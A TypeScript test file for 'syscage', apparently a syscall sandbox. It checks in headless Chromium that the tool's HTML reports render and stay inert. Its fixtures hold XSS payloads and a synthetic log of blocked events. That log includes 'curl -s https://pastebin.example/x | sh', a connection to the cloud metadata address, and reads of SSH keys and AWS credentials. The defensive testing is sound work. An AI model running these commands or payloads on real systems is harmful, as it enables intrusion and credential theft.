// The page in a real browser: headless Chromium from Debian (/usr/bin/chromium), driven by
// playwright-core (which downloads nothing). A report of 100,000 events is opened from file://
// and its charts are checked in the rendered DOM: the SVGs and their bars exist and have a size,
// the timeline has one row per invocation shown, the rule table has the right counts; nothing is
// logged as an error and nothing but the file itself is requested. Screenshots are kept in
// test/report/out/ (report.png: the 100,000 events; readme.png: a small realistic log, which
// SYSCAGE_UPDATE_DOCS=1 also copies to docs/report.png for the README).
import t from 'tap';
import { copyFileSync, existsSync, mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { chromium, type Browser, type Page } from 'playwright-core';
import { humanLine } from '../../lib/audit/index.js';
import { lambdaLogger } from '../../lib/runtime/log.js';
import { emfRecord } from '../../lib/runtime/metrics.js';
import { loadProfile } from '../../lib/profile/index.js';
import { makeReport } from '../../lib/report/index.js';
import { BUILT, NOT_BUILT, ROOT, event, syscage, tempDir } from './helpers.js';
import { generateLog } from './gen.js';

const CHROMIUM = '/usr/bin/chromium';
const OUT = join(ROOT, 'test', 'report', 'out');
const why = !existsSync(CHROMIUM) ? `${CHROMIUM} is missing: apt-get install -y chromium (.ci/run installs it)` : !BUILT ? NOT_BUILT : undefined;

async function launch(t: { teardown: (fn: () => unknown) => void }): Promise<Browser> {
  // launch() gives the browser a fresh user-data-dir of its own (a temporary one, removed on close).
  const browser = await chromium.launch({
    executablePath: CHROMIUM,
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
      '--disable-component-update', '--disable-sync'],
  });
  t.teardown(() => browser.close());
  return browser;
}

/** A page that records console errors, page errors, dialogs and every request. */
async function open(browser: Browser, file: string) {
  const page = await browser.newPage({ viewport: { width: 1100, height: 900 } });
  const errors: string[] = [];
  const requests: string[] = [];
  const dialogs: string[] = [];
  page.on('console', (m) => { if (m.type() === 'error') errors.push(m.text()); });
  page.on('pageerror', (e) => errors.push(e.message));
  page.on('request', (r) => requests.push(r.url()));
  page.on('dialog', (d) => { dialogs.push(d.message()); void d.dismiss(); });
  const url = pathToFileURL(file).href;
  await page.goto(url, { waitUntil: 'load' });
  return { page, url, errors, requests, dialogs };
}

const boxes = (page: Page, selector: string) => page.$$eval(selector, (els) => els.map((e) => {
  const r = e.getBoundingClientRect();
  return { w: r.width, h: r.height };
}));

t.test('a report of 100,000 events, rendered by Chromium', { skip: why, timeout: 120_000 }, async (t) => {
  const dir = tempDir();
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const log = join(dir, 'events.log');
  generateLog(log, { events: 100_000, perInvocation: 10, distinctPaths: 400 });
  const html = join(dir, 'report.html');
  const r = await syscage(['report', log, '-o', html]);
  t.equal(r.status, 0, 'generated', { stderr: r.stderr });
  t.match(r.stderr, /100000 events, 10000 invocations, 0 bad lines/);

  const browser = await launch(t);
  const { page, url, errors, requests } = await open(browser, html);

  for (const cls of ['histogram', 'timeline', 'bars.files', 'bars.programs', 'bars.destinations']) {
    const svg = await boxes(page, `svg.${cls}`);
    t.equal(svg.length, 1, `one svg.${cls}`);
    t.ok(svg[0] && svg[0].w > 100 && svg[0].h > 10, `svg.${cls} is drawn: ${JSON.stringify(svg[0])}`);
  }
  const fileBars = await boxes(page, 'svg.bars.files rect.bar');
  t.equal(fileBars.length, 15, 'the top 15 refused files');
  t.ok(fileBars.every((b) => b.w > 0 && b.h > 0), 'every bar has a size');
  t.equal((await boxes(page, 'svg.bars.programs rect.bar')).length, 1, 'one program (curl)');
  t.equal((await boxes(page, 'svg.bars.destinations rect.bar')).length, 1, 'one destination');
  const hbars = await boxes(page, 'svg.histogram rect.hbar');
  t.ok(hbars.length > 10 && hbars.every((b) => b.w > 0 && b.h > 0), `${hbars.length} histogram bars drawn`);

  const rows = await page.$$eval('svg.timeline g.tl-row', (gs) => gs.map((g) => ({ events: Number(g.getAttribute('data-events')), marks: g.querySelectorAll('rect.mark').length, h: g.getBoundingClientRect().height })));
  t.equal(rows.length, 50, 'one timeline row per invocation shown (the first 50)');
  t.ok(rows.every((x) => x.events === 10 && x.marks > 0 && x.h > 0), 'each row has its marks');
  t.match(await page.textContent('#timeline + p'), /Showing the first 50 of 10,000: and 9,950 more/);

  const rules = await page.$$eval('table.rules tr', (trs) => trs.slice(1).map((tr) => [...tr.querySelectorAll('td')].map((td) => td.textContent ?? '')));
  t.same(rules.map((x) => [x[0], x[2], x[3]]), [
    ['files.deny', 'profiles/examples/demo.yaml:12:10', '50,000'],
    ['exec.allow', 'profiles/examples/demo.yaml:14:10', '25,000'],
    ['network.connect', 'profiles/examples/demo.yaml:16:10', '25,000'],
  ], 'the rule table: each rule, its file:line, its count');
  t.equal(await page.$$eval('details.proc', (d) => d.length), 50, 'a process tree per invocation shown');

  t.same(errors, [], 'no console error');
  t.same([...new Set(requests)], [url], 'nothing requested but the file itself');
  mkdirSync(OUT, { recursive: true });
  await page.screenshot({ path: join(OUT, 'report.png'), fullPage: true });
  t.ok(existsSync(join(OUT, 'report.png')), 'screenshot kept: test/report/out/report.png');
});

t.test('hostile strings do nothing in the browser', { skip: why, timeout: 60_000 }, async (t) => {
  const dir = tempDir();
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const log = join(dir, 'h.jsonl');
  const evil = ['</script><img src=x onerror=alert(1)>', '"><svg onload=alert(2)>', "'><iframe src=javascript:alert(3)>"];
  writeFileSync(log, evil.map((s) => JSON.stringify(event({ path: `/tmp/${s}`, exe: s, requestId: s, argv: [s, s] }))).join('\n') + '\n');
  const html = join(dir, 'h.html');
  const r = await syscage(['report', log, '-o', html]);
  t.equal(r.status, 0, 'generated', { stderr: r.stderr });
  const browser = await launch(t);
  const { page, url, errors, requests, dialogs } = await open(browser, html);
  t.same(dialogs, [], 'no script ran');
  t.equal(await page.$$eval('img, iframe, script, object, embed', (x) => x.length), 0, 'no element of theirs exists');
  t.match(await page.textContent('body'), evil[0]!, 'shown as text');
  t.same(errors, []);
  t.same([...new Set(requests)], [url]);
});

/** A small realistic day of a Lambda function: three invocations, a restart, EMF records, the function's own lines. */
function realisticLog(file: string): void {
  const lines: string[] = [];
  const t0 = Date.UTC(2026, 2, 14, 9, 30, 0);
  let now = t0;
  const log = lambdaLogger({ AWS_LAMBDA_LOG_FORMAT: 'JSON' }, (l) => lines.push(l), () => new Date(now));
  const ev = (dt: number, rid: string, o: Parameters<typeof event>[0]) => {
    now = t0 + dt;
    const e = event({ ...o, ...(o.rule ? { rule: { ...o.rule, file: 'syscage.yaml' } } : {}), time: now, requestId: rid, tier: 'runtime', profile: 'orders-api' });
    log.log('WARN', humanLine(e), { syscage: e }, rid);
  };
  const own = (dt: number, rid: string, msg: string) => { now = t0 + dt; log.log('INFO', msg, {}, rid); };
  const node = { exe: '/opt/bin/node', pid: 8, ppid: 1 };
  const rA = 'c0ffee01-5d2e-4a1b-9b3c-2f6a7e1d9a10';
  const rB = 'c0ffee02-77b1-4f0e-8e55-0d3c1b2a4f21';
  const rC = 'c0ffee03-1a9f-4c3d-a2b8-9e7f6d5c4b32';
  own(0, rA, 'handling order 1841');
  ev(12, rA, { ...node, path: '/var/task/.env', rule: { what: 'files.deny', text: '/var/task/.env', line: 14 } });
  ev(40, rA, { ...node, syscall: 'connect', address: '169.254.169.254:80', rule: { what: 'network.connect', text: 'not in network.connect', line: 18 } });
  own(300, rA, 'order 1841 done');
  own(60_000, rB, 'handling order 1842');
  ev(60_020, rB, { ...node, syscall: 'execve', argv: ['/bin/sh', '-c', 'curl -s https://pastebin.example/x | sh'], rule: { what: 'exec.allow', text: 'not in exec.allow', line: 16 } });
  ev(60_021, rB, { pid: 31, ppid: 8, exe: '/bin/sh', syscall: 'execve', argv: ['/usr/bin/curl', '-s', 'https://pastebin.example/x'], rule: { what: 'exec.allow', text: 'not in exec.allow', line: 16 } });
  for (let i = 0; i < 6; i++) ev(60_030 + i * 15, rB, { ...node, syscall: 'connect', address: `203.0.113.${10 + (i % 2)}:443`, name: 'pastebin.example', rule: { what: 'network.connect', text: 'not in network.connect', line: 18 } });
  ev(60_200, rB, { ...node, action: 'kill', path: '/etc/passwd', rule: { what: 'files.read', text: 'not in files.read', line: 12 } });
  now = t0 + 60_210;
  log.log('WARN', 'syscage: restarting the handler: killed for reading /etc/passwd', {}, rB);
  log.emit('INFO', 'syscage: metrics', { ...emfRecord({ FunctionName: 'orders', Tier: 'runtime', Profile: 'orders-api' }, { Violations: 9, Refusals: 8, Kills: 1, MonitorKills: 0, Restarts: 1 }, now, rB) }, rB);
  own(120_000, rC, 'handling order 1843');
  ['/root/.ssh/id_rsa', '/proc/1/environ', '/home/app/.aws/credentials', '/root/.ssh/id_rsa'].forEach((path, i) =>
    ev(120_010 + i * 30, rC, { ...node, path, rule: { what: 'files.read', text: 'not in files.read', line: 12 } }));
  ev(120_200, rC, { ...node, path: '/var/task/.env', rule: { what: 'files.deny', text: '/var/task/.env', line: 14 } });
  writeFileSync(file, lines.join(''));
}

t.test('the README\'s screenshot: a small realistic log with --profile', { skip: why, timeout: 60_000 }, async (t) => {
  const dir = tempDir();
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  const log = join(dir, 'orders.log');
  realisticLog(log);
  const profile = join(ROOT, 'profiles', 'examples', 'orders-api.yaml');
  const { html, aggregate } = await makeReport({
    inputs: ['orders.log'].map((f) => join(dir, f)),
    profile: loadProfile(profile).profile,
    profilePath: 'syscage.yaml',
    now: new Date(Date.UTC(2026, 2, 15, 8, 0, 0)),
  });
  t.equal(aggregate.invocationIds.count, 3);
  t.equal(aggregate.restarts, 1);
  t.equal(aggregate.emf, 1);
  const file = join(dir, 'report.html');
  // The page names its input as the user would have: not this machine's temporary directory.
  writeFileSync(file, html.replaceAll(dir + '/', ''));
  const browser = await launch(t);
  const { page, errors } = await open(browser, file);
  t.same(errors, []);
  t.equal(await page.$$eval('svg.timeline g.tl-row', (g) => g.length), 3, 'three timeline rows');
  mkdirSync(OUT, { recursive: true });
  const shot = join(OUT, 'readme.png');
  await page.screenshot({ path: shot, fullPage: true, clip: { x: 0, y: 0, width: 1100, height: 1560 } });
  t.ok(readFileSync(shot).length > 10_000, 'screenshot kept: test/report/out/readme.png');
  if (process.env.SYSCAGE_UPDATE_DOCS === '1') copyFileSync(shot, join(ROOT, 'docs', 'report.png'));
});
